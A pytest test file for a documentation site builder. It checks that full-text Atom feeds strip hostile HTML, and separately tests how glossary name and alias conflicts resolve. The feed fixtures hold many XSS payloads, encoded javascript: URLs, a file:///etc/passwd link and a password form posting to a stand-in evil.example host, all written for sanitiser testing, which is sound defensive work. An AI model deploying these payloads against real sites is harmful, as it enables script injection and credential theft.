"""Hostile input, round three: safe HTML in full-text feeds; a glossary name belongs to its
own entry.

Feeds: one real build whose articles each carry one class of hostile raw HTML; every
entry's ``type="html"`` content is parsed as a feed reader would and checked for what
must never reach it (code, handlers, unsafe addresses, styling, head markup) and for
what must (headings, paragraphs, lists, links, images, tables, code).

Glossary: real builds where an entry lists another entry's name as an alias, in every
file order, with folded spellings, ``-j 2`` and incremental builds; the links in the
articles and the file named by the warning are checked.
"""

from __future__ import annotations

import json
import re
import unicodedata
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from bs4 import BeautifulSoup
from PIL import Image

from kbtesting import Build, article, build, front_matter, write_project

ATOM = "{http://www.w3.org/2005/Atom}"
BASE = "https://kb.example.org/"
FEED_CONF = "kb_cards = False\nkb_feed_full_text = True\n"

# --- feeds -----------------------------------------------------------------------------------

RUNNING = """
<script>alert("script-body")</script>

<iframe src="https://evil.example/frame" srcdoc="&lt;script&gt;alert(2)&lt;/script&gt;">alert-iframe</iframe>

<object data="https://evil.example/x.swf"><param name="movie" value="x">alert-object</object>

<embed src="https://evil.example/x.swf" type="application/x-shockwave-flash">

<style>body{display:none} .x{background:url(javascript:alert(3))}</style>

<noscript><img src="x.png" onerror="alert(4)"></noscript>

<template><script>alert(5)</script></template>

<svg onload="alert(6)"><script>alert(7)</script><a xlink:href="javascript:alert(8)"><text>alert-svg</text></a></svg>

<math><mtext><table><mglyph><style><img src=x onerror=alert(9)></style></mglyph></table></mtext></math>

<applet code="alert.class">alert-applet</applet><frameset><frame src="javascript:alert(10)"></frameset>

可視の段落その一。

Inline <script>alert(11)</script> code in a paragraph, <iframe src="https://evil.example/"></iframe> too.
"""

HANDLERS = """
<p onclick="alert(1)" onmouseover="alert(2)">ハンドラ段落。</p>

<img src="pic.png" onerror="alert(3)" onload="alert(3)" alt="画像">

<details open ontoggle="alert(4)"><summary>要約</summary>詳細</details>

<a href="https://example.com/" onfocus="alert(5)" autofocus>外部</a>

<div ONMOUSEENTER="alert(6)" OnClick = "alert(6)">大文字のハンドラ</div>

<body onload="alert(7)"><video src="x" onerror="alert(8)"></video><input autofocus onfocus="alert(9)">

<table onpointerover="alert(10)"><tr><td onclick="alert(11)">セル</td></tr></table>
"""

ADDRESSES = """
<a href="javascript:alert(1)">j1</a>
<a href="JaVaScRiPt:alert(2)">j2</a>
<a href="javascript&colon;alert(3)">j3</a>
<a href="&#106;avascript:alert(4)">j4</a>
<a href="java&#x09;script:alert(5)">j5</a>
<a href="  javascript:alert(6)">j6</a>
<a href="java&#10;script&#58;alert(7)">j7</a>
<a href="vbscript:msgbox(8)">v1</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==">d1</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTApPg==" alt="d2">
<img src="javascript:alert(12)" alt="j8">
<a href="file:///etc/passwd">f1</a>
<a href="https://example.com/safe">安全なリンク</a>
<a href="other.html">相対リンク</a>
<a href="//cdn.example.net/proto">プロトコル相対</a>

[md-javascript](javascript:alert(13)) and <javascript:alert(14)> and [md-data](data:text/html,alert15)
"""

STYLING = """
<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(javascript:alert(1))">全面の段落。</p>

<img src="pic.png" srcset="https://evil.example/big.png 2x, javascript:alert(2) 1x" alt="srcset">

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<link rel="stylesheet" href="https://evil.example/x.css">

<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="https://evil.example/b">送信</button><textarea>evil.example-text</textarea></form>

<p class="hidden" id="main-content" style="display:none">隠す段落。</p>

<span style="color:red">赤</span>
"""

KEPT = """
最初の段落は **強調** と `インライン code` を含む。

## 見出しの節

節の本文。[記事Bへ](b.md) と [外部](https://example.com/page?q=1&r=2)。

### 小見出し

- 箇条一
- 箇条二

1. 番号一
2. 番号二

![図の説明](pic.png)

| 会社 | 売上 |
|---|---|
| A社 | 100 |
| B社 | 200 |

```python
if a < b and c > d:
    print("<tag> & 'quote'")
```

> 引用された一文。

<ruby>半導体<rt>はんどうたい</rt></ruby>
"""

FEED_FILES = {
    "articles/2025/11/running.md": article(RUNNING, title="実行される要素", date="2025-11-01", tags=["危険"]),
    "articles/2025/11/handlers.md": article(HANDLERS, title="イベントハンドラ", date="2025-11-02"),
    "articles/2025/11/addresses.md": article(ADDRESSES, title="危険なアドレス", date="2025-11-03"),
    "articles/2025/11/styling.md": article(STYLING, title="見た目と頭", date="2025-11-04"),
    "articles/2025/11/kept.md": article(KEPT, title="残る構造", date="2025-11-05"),
    "articles/2025/11/b.md": article("記事Bの本文。", title="記事B", date="2025-10-01"),
    "articles/2025/11/names.md": article(
        "名前の本文。",
        title='<script>alert("title")</script> & <b>太字</b>',
        excerpt='<img src=x onerror=alert("excerpt")>抜粋 & </summary>',
        author="<i>著者</i>",
        tags=["<svg/onload=alert(1)>"],
        date="2025-11-06",
    ),
}

#: Elements a feed body never carries: they run, load, submit or change the reader's page.
NEVER = {
    *("script", "iframe", "object", "embed", "param", "applet", "frame", "frameset"),
    *("style", "link", "meta", "base", "noscript", "template", "svg", "math"),
    *("form", "input", "button", "textarea", "select", "video", "audio", "body", "html"),
}
ADDRESS = re.compile(r"^(https?://|mailto:)", re.IGNORECASE)


def png(path: Path) -> None:
    Image.new("RGB", (8, 8), (200, 30, 30)).save(path)


@pytest.fixture(scope="module")
def feed_site(tmp_path_factory: pytest.TempPathFactory) -> Build:
    src = write_project(tmp_path_factory.mktemp("feeds"), FEED_FILES, conf=FEED_CONF)
    png(src / "articles/2025/11/pic.png")
    return build(src)


def entries(path: Path) -> dict[str, Any]:
    """Entry title -> the entry's Atom element."""
    root = ElementTree.parse(path).getroot()
    return {entry.findtext(f"{ATOM}title") or "": entry for entry in root.iter(f"{ATOM}entry")}


def content(site: Build, title: str, feed: str = "feeds/atom.xml") -> tuple[str, BeautifulSoup]:
    """The HTML a feed reader gets for the entry titled ``title``, raw and parsed."""
    element = entries(site.outdir / feed)[title].find(f"{ATOM}content")
    assert element is not None and element.get("type") == "html"
    html = element.text or ""
    return html, BeautifulSoup(html, "html.parser")


def addresses(soup: BeautifulSoup) -> list[str]:
    found = []
    for element in soup.find_all(True):
        for attribute in ("href", "src", "xlink:href", "action", "formaction", "data", "poster"):
            if element.has_attr(attribute):
                found.append(element[attribute])
    return found


@pytest.mark.parametrize("title", ["実行される要素", "イベントハンドラ", "危険なアドレス", "見た目と頭"])
def test_feed_body_has_no_element_that_runs_loads_or_submits(feed_site: Build, title: str) -> None:
    _, soup = content(feed_site, title)
    found = {element.name for element in soup.find_all(True)}
    assert not found & NEVER, found & NEVER
    # Every payload calls alert(): none is left in any attribute.
    values = [str(v) for element in soup.find_all(True) for v in element.attrs.values()]
    assert not [v for v in values if "alert" in v or "msgbox" in v], values


def test_feed_body_drops_what_code_elements_hold(feed_site: Build) -> None:
    html, _ = content(feed_site, "実行される要素")
    # Script, style, iframe, object, SVG … bodies are not even left as text.
    assert "alert" not in html and "background:url" not in html, html


def test_feed_body_keeps_the_visible_text_around_removed_code(feed_site: Build) -> None:
    _, soup = content(feed_site, "実行される要素")
    text = soup.get_text()
    assert "可視の段落その一。" in text
    assert "Inline" in text and "code in a paragraph," in text and "too." in text


def test_feed_body_has_no_event_handler(feed_site: Build) -> None:
    _, soup = content(feed_site, "イベントハンドラ")
    handlers = [
        (element.name, attribute)
        for element in soup.find_all(True)
        for attribute in element.attrs
        if attribute.lower().startswith("on")
    ]
    assert handlers == []
    text = soup.get_text()
    assert "ハンドラ段落。" in text and "大文字のハンドラ" in text and "セル" in text
    image = soup.find("img", alt="画像")
    # A raw <img> of an article points at the copy the build made (kb.rawfiles).
    assert image is not None and image["src"] == f"{BASE}_images/pic.png"
    assert soup.find("a", string="外部")["href"] == "https://example.com/"


def test_feed_body_links_only_to_web_and_mail_addresses(feed_site: Build) -> None:
    _, soup = content(feed_site, "危険なアドレス")
    found = addresses(soup)
    assert found and all(ADDRESS.match(address) for address in found), found
    values = [str(v).lower() for element in soup.find_all(True) for v in element.attrs.values()]
    for word in ("javascript", "vbscript", "data:", "base64", "file:", "/etc/passwd"):
        assert not [value for value in values if word in value], (word, values)
    # Markdown links to such addresses were never links: MyST shows them as text.
    assert soup.find("a", string=re.compile("md-")) is None
    assert "[md-javascript](javascript:alert(13))" in soup.get_text()
    assert soup.find("a", string="安全なリンク")["href"] == "https://example.com/safe"
    # Relative links still become absolute from the page, and stay safe.
    assert soup.find("a", string="相対リンク")["href"] == f"{BASE}articles/2025/11/other.html"
    assert soup.find("a", string="プロトコル相対")["href"] == "https://cdn.example.net/proto"
    # The refused links keep their text: nothing the author wrote disappears.
    for text in ("j1", "j3", "j5", "j7", "v1", "d1", "f1", "md-javascript"):
        assert text in soup.get_text(), text


def test_feed_body_has_no_styling_srcset_or_head_markup(feed_site: Build) -> None:
    html, soup = content(feed_site, "見た目と頭")
    attributes = {attribute for element in soup.find_all(True) for attribute in element.attrs}
    assert not attributes & {"style", "srcset", "class", "id", "action", "formaction"}
    assert "evil.example" not in html and "display:none" not in html
    text = soup.get_text()
    assert "全面の段落。" in text and "隠す段落。" in text and "赤" in text
    image = soup.find("img", alt="srcset")
    assert image is not None and image["src"] == f"{BASE}_images/pic.png"


def test_feed_body_keeps_headings_paragraphs_lists_links_images_tables_and_code(
    feed_site: Build,
) -> None:
    _, soup = content(feed_site, "残る構造")
    assert [h.get_text(strip=True) for h in soup.find_all(["h2", "h3"])] == ["見出しの節", "小見出し"]
    assert any("節の本文" in p.get_text() for p in soup.find_all("p"))
    assert soup.find("strong").get_text() == "強調"
    assert [li.get_text(strip=True) for li in soup.select("ul li")] == ["箇条一", "箇条二"]
    assert [li.get_text(strip=True) for li in soup.select("ol li")] == ["番号一", "番号二"]
    assert soup.find("a", string="記事Bへ")["href"] == f"{BASE}articles/2025/11/b.html"
    assert soup.find("a", string="外部")["href"] == "https://example.com/page?q=1&r=2"
    image = soup.find("img")
    assert image["alt"] == "図の説明"
    assert re.fullmatch(rf"{re.escape(BASE)}_images/pic\.png", image["src"]), image["src"]
    assert [cell.get_text(strip=True) for cell in soup.select("table th")] == ["会社", "売上"]
    assert [cell.get_text(strip=True) for cell in soup.select("table td")] == [
        "A社", "100", "B社", "200"
    ]
    code = soup.find("pre")
    assert code is not None
    assert code.get_text() == "if a < b and c > d:\n    print(\"<tag> & 'quote'\")\n"
    assert soup.find("code").get_text() == "インライン code"
    assert "引用された一文。" in soup.find("blockquote").get_text()
    assert soup.find("rt").get_text() == "はんどうたい"


def test_tag_feeds_carry_the_same_sanitised_body(feed_site: Build) -> None:
    site_html, _ = content(feed_site, "実行される要素")
    tag_feeds = list((feed_site.outdir / "feeds" / "tags").glob("*.xml"))
    tagged = [path for path in tag_feeds if "実行される要素" in entries(path)]
    assert len(tagged) == 1
    html, _ = content(feed_site, "実行される要素", f"feeds/tags/{tagged[0].name}")
    assert html == site_html and "alert" not in html


def test_feed_titles_summaries_and_names_are_text(feed_site: Build) -> None:
    """Already escaped before this round (kept as a guard): feedgen writes them as text."""
    title = '<script>alert("title")</script> & <b>太字</b>'
    entry = entries(feed_site.outdir / "feeds" / "atom.xml")[title]
    assert entry.find(f"{ATOM}title").get("type") in (None, "text")
    summary = entry.find(f"{ATOM}summary")
    assert summary.get("type") in (None, "text")
    assert summary.text == '<img src=x onerror=alert("excerpt")>抜粋 & </summary>'
    assert [a.findtext(f"{ATOM}name") for a in entry.iter(f"{ATOM}author")] == ["<i>著者</i>"]
    assert [c.get("term") for c in entry.iter(f"{ATOM}category")] == ["<svg/onload=alert(1)>"]
    raw = (feed_site.outdir / "feeds" / "atom.xml").read_text(encoding="utf-8")
    assert "<script" not in raw and "<img" not in raw and "<svg" not in raw


def test_json_ld_of_a_hostile_title_stays_inside_its_script(feed_site: Build) -> None:
    page = feed_site.html("articles/2025/11/names")
    blocks = page.select('script[type="application/ld+json"]')
    assert len(blocks) == 1
    data = json.loads(blocks[0].string)
    assert data["headline"] == '<script>alert("title")</script> & <b>太字</b>'
    assert [s for s in page.find_all("script") if "alert" in (s.string or "")] == blocks


# --- glossary: a name belongs to its own entry ---------------------------------------------------

ALL_LINKS = 'kb_autolink = "all"\n'


def entry_file(name: str, *aliases: str, summary: str = "") -> str:
    fields: dict[str, Any] = {"name": name}
    if aliases:
        fields["aliases"] = list(aliases)
    if summary:
        fields["summary"] = summary
    return front_matter(**fields) + "\n本文。\n"


def links(site: Build, docname: str) -> list[tuple[str, str]]:
    """(text, target entry page) of every glossary link in an article's body."""
    found = []
    for anchor in site.html(docname).select("article a.kb-entry-link"):
        page = anchor["href"].split("#")[0]
        found.append((anchor.get_text(), re.sub(r"^(\.\./)+", "", page).removesuffix(".html")))
    return found


def warnings_about(site: Build, text: str) -> list[str]:
    return [line for line in site.warnings.splitlines() if text in line and "[kb.glossary]" in line]


@dataclass(frozen=True)
class Stolen:
    """An entry (the holder) listing another entry's name (the owner's) as an alias."""

    holder: tuple[str, ...]  # name, then aliases
    holder_file: str
    owner: tuple[str, ...]
    owner_file: str
    mentions: tuple[str, ...]  # spellings in the articles, each linking to the owner

    @property
    def holder_doc(self) -> str:
        return self.holder_file.removesuffix(".md")

    @property
    def owner_doc(self) -> str:
        return self.owner_file.removesuffix(".md")


STOLEN = {
    "same folder, alias file first": Stolen(
        ("ファンクラブ", "Nvidia"),
        "glossary/partners/a-fan.md",
        ("Nvidia",),
        "glossary/partners/nvidia.md",
        ("Nvidia", "NVIDIA", "nvidia"),
    ),
    "other kind, alias file first": Stolen(
        ("自作GPU", "CUDA"),
        "glossary/partners/0-gpu.md",
        ("CUDA",),
        "glossary/technologies/cuda.md",
        ("CUDA", "cuda"),
    ),
    "full-width alias against the name": Stolen(
        ("偽物", "ＮＶＩＤＩＡ"),
        "glossary/partners/0-fake.md",
        ("Nvidia",),
        "glossary/partners/nvidia.md",
        ("Nvidia", "Ｎｖｉｄｉａ", "NVIDIA"),
    ),
    "full-width name against the alias": Stolen(
        ("偽物", "nvidia"),
        "glossary/partners/0-fake.md",
        ("Ｎｖｉｄｉａ",),
        "glossary/partners/nvidia.md",
        ("Nvidia", "Ｎｖｉｄｉａ"),
    ),
    "half-width katakana alias against the name (NFKC)": Stolen(
        ("偽物", "ｴﾇﾋﾞﾃﾞｨｱ"),
        "glossary/partners/0-fake.md",
        ("エヌビディア",),
        "glossary/partners/nvidia.md",
        ("エヌビディア",),
    ),
    "holder also lists its own name; owner lists its name as alias": Stolen(
        ("ファン", "ファン", "Nvidia", "FAN"),
        "glossary/partners/a-fan.md",
        ("Nvidia", "NVIDIA"),
        "glossary/partners/nvidia.md",
        ("Nvidia", "NVIDIA"),
    ),
}


def folded(text: str) -> str:
    return unicodedata.normalize("NFKC", text).casefold()


def stolen_project(root: Path, case: Stolen, articles: int = 2) -> Path:
    files = {
        case.holder_file: entry_file(*case.holder),
        case.owner_file: entry_file(*case.owner),
    }
    for number in range(articles):
        body = "。".join(f"{mention}の話" for mention in case.mentions) + "。"
        files[f"articles/2025/11/m{number}.md"] = article(
            body, title=f"言及{number}", date=f"2025-11-{number + 1:02d}"
        )
    return write_project(root, files, conf=ALL_LINKS)


def assert_owner_wins(site: Build, case: Stolen, articles: int) -> None:
    for number in range(articles):
        found = links(site, f"articles/2025/11/m{number}")
        assert found == [(mention, case.owner_doc) for mention in case.mentions], found
    # The warning names the file holding the alias, at its aliases line; never the owner's.
    stolen = [
        line
        for line in site.warnings.splitlines()
        if "[kb.glossary]" in line and "already used by" in line
    ]
    assert len(stolen) == 1, site.warnings
    assert re.search(rf"{re.escape(case.holder_file)}:3: WARNING: glossary alias ", stolen[0])
    assert f"already used by {case.owner_doc} " in stolen[0], stolen
    assert not re.search(rf"{re.escape(case.owner_file)}:\d+: WARNING", site.warnings)


@pytest.mark.parametrize("name", list(STOLEN))
def test_an_entry_keeps_its_own_name_over_another_entrys_alias(tmp_path: Path, name: str) -> None:
    case = STOLEN[name]
    site = build(stolen_project(tmp_path, case))
    assert_owner_wins(site, case, 2)
    # The holder neither shows nor indexes the name it lost; its other aliases stay.
    box = site.html(case.holder_doc).select_one(".kb-entry-aliases")
    shown = box.get_text() if box is not None else ""
    for alias in case.holder[1:]:
        if folded(alias) == folded(case.owner[0]):
            assert alias not in shown, shown
        elif alias != case.holder[0]:
            assert alias in shown, shown
    index = {(a.get_text(), a["href"].split("#")[0]) for a in site.html("genindex").select("a")}
    taken = [text for text, href in index if folded(text) == folded(case.owner[0])]
    assert taken and all(
        href == f"{case.owner_doc}.html" for text, href in index if text in taken
    ), index


def test_explicit_roles_and_entry_references_go_to_the_name_owner(tmp_path: Path) -> None:
    files = {
        "glossary/partners/a-fan.md": entry_file("ファンクラブ", "Nvidia"),
        "glossary/technologies/0-tech.md": entry_file("ＧＰＵ技術", "NVIDIA"),
        "glossary/partners/nvidia.md": entry_file("Nvidia"),
        "articles/2025/11/roles.md": article(
            "{partner}`Nvidia` と {tech}`nvidia` と {term}`Nvidia`。",
            title="ロール",
        ),
    }
    site = build(write_project(tmp_path, files))
    hrefs = [a["href"] for a in site.html("articles/2025/11/roles").select("article p a")]
    assert len(hrefs) == 3, hrefs
    assert all(re.search(r"glossary/partners/nvidia\.html#kb-entry-nvidia$", h) for h in hrefs)
    for holder in ("glossary/partners/a-fan", "glossary/technologies/0-tech"):
        assert len([w for w in warnings_about(site, f"{holder}.md:3:")]) == 1


def test_own_name_wins_with_parallel_readers(tmp_path: Path) -> None:
    case = STOLEN["same folder, alias file first"]
    site = build(stolen_project(tmp_path, case, articles=8), parallel=2)
    assert site.app.parallel == 2
    assert_owner_wins(site, case, 8)


def test_own_name_wins_on_incremental_builds_whichever_file_changes(tmp_path: Path) -> None:
    case = STOLEN["same folder, alias file first"]
    src = stolen_project(tmp_path, case)
    owner_text = (src / case.owner_file).read_text(encoding="utf-8")
    # First the alias holder alone: the name is free, so it links there.
    (src / case.owner_file).unlink()
    alone = build(src)
    assert {target for _, target in links(alone, "articles/2025/11/m0")} == {case.holder_doc}
    # The entry with that name arrives: it takes its name back, without a fresh build.
    (src / case.owner_file).write_text(owner_text, encoding="utf-8")
    assert_owner_wins(build(src), case, 2)
    # Only the alias holder changes (its summary): the owner keeps the name.
    (src / case.holder_file).write_text(
        entry_file(*case.holder, summary="要約を変えた"), encoding="utf-8"
    )
    assert_owner_wins(build(src), case, 2)
    # Only the owner changes (its body): nothing moves.
    (src / case.owner_file).write_text(owner_text + "\n追記。\n", encoding="utf-8")
    owner_changed = build(src)
    for number in range(2):
        found = links(owner_changed, f"articles/2025/11/m{number}")
        assert {target for _, target in found} == {case.owner_doc}, found
    assert not re.search(rf"{re.escape(case.owner_file)}:\d+: WARNING", owner_changed.warnings)


def test_an_alias_holder_added_later_takes_nothing_from_the_name_owner(tmp_path: Path) -> None:
    case = STOLEN["other kind, alias file first"]
    src = stolen_project(tmp_path, case)
    holder_text = (src / case.holder_file).read_text(encoding="utf-8")
    (src / case.holder_file).unlink()
    before = build(src)
    assert {target for _, target in links(before, "articles/2025/11/m1")} == {case.owner_doc}
    (src / case.holder_file).write_text(holder_text, encoding="utf-8")
    assert_owner_wins(build(src), case, 2)


def test_two_entries_with_one_name_first_file_keeps_it_and_alias_never_wins(
    tmp_path: Path,
) -> None:
    files = {
        "glossary/partners/0-alias.md": entry_file("別物", "Foo"),
        "glossary/partners/a-foo.md": entry_file("Foo"),
        "glossary/partners/b-foo.md": entry_file("ＦＯＯ"),
        "articles/2025/11/m.md": article("Fooの話。fooの話。", title="同名"),
    }
    site = build(write_project(tmp_path, files, conf=ALL_LINKS))
    assert links(site, "articles/2025/11/m") == [
        ("Foo", "glossary/partners/a-foo"),
        ("foo", "glossary/partners/a-foo"),
    ]
    assert re.search(
        r"b-foo\.md:2: WARNING: glossary name 'ＦＯＯ' is already used by "
        r"glossary/partners/a-foo \(Foo\) as its name",
        site.warnings,
    )
    assert re.search(
        r"0-alias\.md:3: WARNING: glossary alias 'Foo' is already used by "
        r"glossary/partners/a-foo \(Foo\) as its name",
        site.warnings,
    )
    assert not re.search(r"a-foo\.md:\d+: WARNING", site.warnings)
    # The second entry still has its page, reachable by its own file.
    assert site.exists("glossary/partners/b-foo")


def test_an_alias_spelling_the_entrys_own_name_is_not_a_second_conflict(tmp_path: Path) -> None:
    files = {
        "glossary/partners/a-foo.md": entry_file("Foo", "Foo Inc"),
        # Its name is taken by a-foo; its alias FOO is only its own name again.
        "glossary/partners/b-foo.md": entry_file("foo", "FOO", "Bar"),
        # An alias equal to its own name, and no one else's: no warning at all.
        "glossary/partners/c-baz.md": entry_file("Baz", "BAZ", "ｂａｚ"),
        "articles/2025/11/m.md": article("fooとBarとbazの話。", title="自分の名前"),
    }
    site = build(write_project(tmp_path, files, conf=ALL_LINKS))
    about_b = warnings_about(site, "b-foo.md:")
    assert len(about_b) == 1 and "glossary name 'foo'" in about_b[0], about_b
    assert warnings_about(site, "c-baz.md:") == []
    assert warnings_about(site, "a-foo.md:") == []
    assert links(site, "articles/2025/11/m") == [
        ("foo", "glossary/partners/a-foo"),
        ("Bar", "glossary/partners/b-foo"),
        ("baz", "glossary/partners/c-baz"),
    ]


def test_one_alias_in_two_entries_goes_to_the_file_sorted_first_unless_it_is_a_name(
    tmp_path: Path,
) -> None:
    files = {
        "glossary/partners/a-one.md": entry_file("一番", "Shared", "Common"),
        "glossary/partners/m-shared.md": entry_file("shared"),
        "glossary/partners/z-two.md": entry_file("二番", "ＳＨＡＲＥＤ", "ｃｏｍｍｏｎ"),
        "articles/2025/11/m.md": article("SharedとCommonの話。", title="共有"),
    }
    site = build(write_project(tmp_path, files, conf=ALL_LINKS))
    assert links(site, "articles/2025/11/m") == [
        ("Shared", "glossary/partners/m-shared"),
        ("Common", "glossary/partners/a-one"),
    ]
    assert re.search(
        r"z-two\.md:3: WARNING: glossary alias 'ｃｏｍｍｏｎ' is already used by "
        r"glossary/partners/a-one \(一番\) as its alias",
        site.warnings,
    )
    for holder, alias in (("a-one", "Shared"), ("z-two", "ＳＨＡＲＥＤ")):
        assert re.search(
            rf"{holder}\.md:3: WARNING: glossary alias '{alias}' is already used by "
            r"glossary/partners/m-shared \(shared\) as its name",
            site.warnings,
        ), holder
    assert warnings_about(site, "m-shared.md:") == []
